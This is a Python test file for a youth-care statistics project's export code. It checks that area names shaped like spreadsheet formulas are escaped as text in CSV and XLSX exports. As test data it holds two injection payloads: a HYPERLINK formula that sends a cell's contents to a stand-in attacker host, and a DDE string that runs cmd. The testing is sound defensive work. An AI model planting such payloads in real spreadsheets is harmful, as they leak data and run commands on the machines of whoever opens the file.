"""Formula injection through a run's exports: an area named like a formula stays text."""

from __future__ import annotations

import csv
import dataclasses

import openpyxl

from jeugdhulp.analysis.output import write_csv
from jeugdhulp.data.cells import FORMULA_STARTS
from jeugdhulp.results import exports

FORMULA = '=HYPERLINK("http://aanvaller.example/?"&B2,"Klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


def _with_named_areas(analysed):
    published = analysed.published.copy()
    codes = sorted(published["gebied_code"].unique())
    names = {codes[0]: FORMULA, codes[1]: DDE}
    published["gebied_naam"] = published["gebied_code"].map(names).fillna(published["gebied_naam"])
    return dataclasses.replace(analysed, published=published)


def _csv_cells(path, delimiter):
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return [cell for row in csv.reader(handle, delimiter=delimiter) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", "."))
    except ValueError:
        return False
    return True


def test_an_area_named_like_a_formula_is_text_in_every_csv_and_xlsx_export(analysed, tmp_path):
    result = _with_named_areas(analysed)
    exports.write_exports(result, tmp_path, {})
    write_csv(result, tmp_path / "cli.csv")  # the analysis CLI's writer
    for name, delimiter in [
        ("indicatoren.csv", ","),
        ("indicatoren-puntkomma.csv", ";"),
        ("cli.csv", ","),
    ]:
        cells = _csv_cells(tmp_path / name, delimiter)
        assert "'" + FORMULA in cells and "'" + DDE in cells, name
        assert not [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)], name
    book = openpyxl.load_workbook(tmp_path / "indicatoren.xlsx")
    texts = [
        cell.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]
    assert "'" + FORMULA in texts and "'" + DDE in texts
    assert not [t for t in texts if t.startswith(FORMULA_STARTS)]


def test_negative_numbers_stay_numbers_in_the_semicolon_csv(analysed, tmp_path):
    published = analysed.published.copy()
    published["ratio_eb"] = -published["ratio_eb"]
    exports.write_semicolon_csv(
        dataclasses.replace(analysed, published=published), tmp_path / "p.csv"
    )
    with (tmp_path / "p.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle, delimiter=";"))
    negatives = [r["ratio_eb"] for r in rows if r["ratio_eb"].startswith("-")]
    assert negatives and all(_is_number(v) for v in negatives)
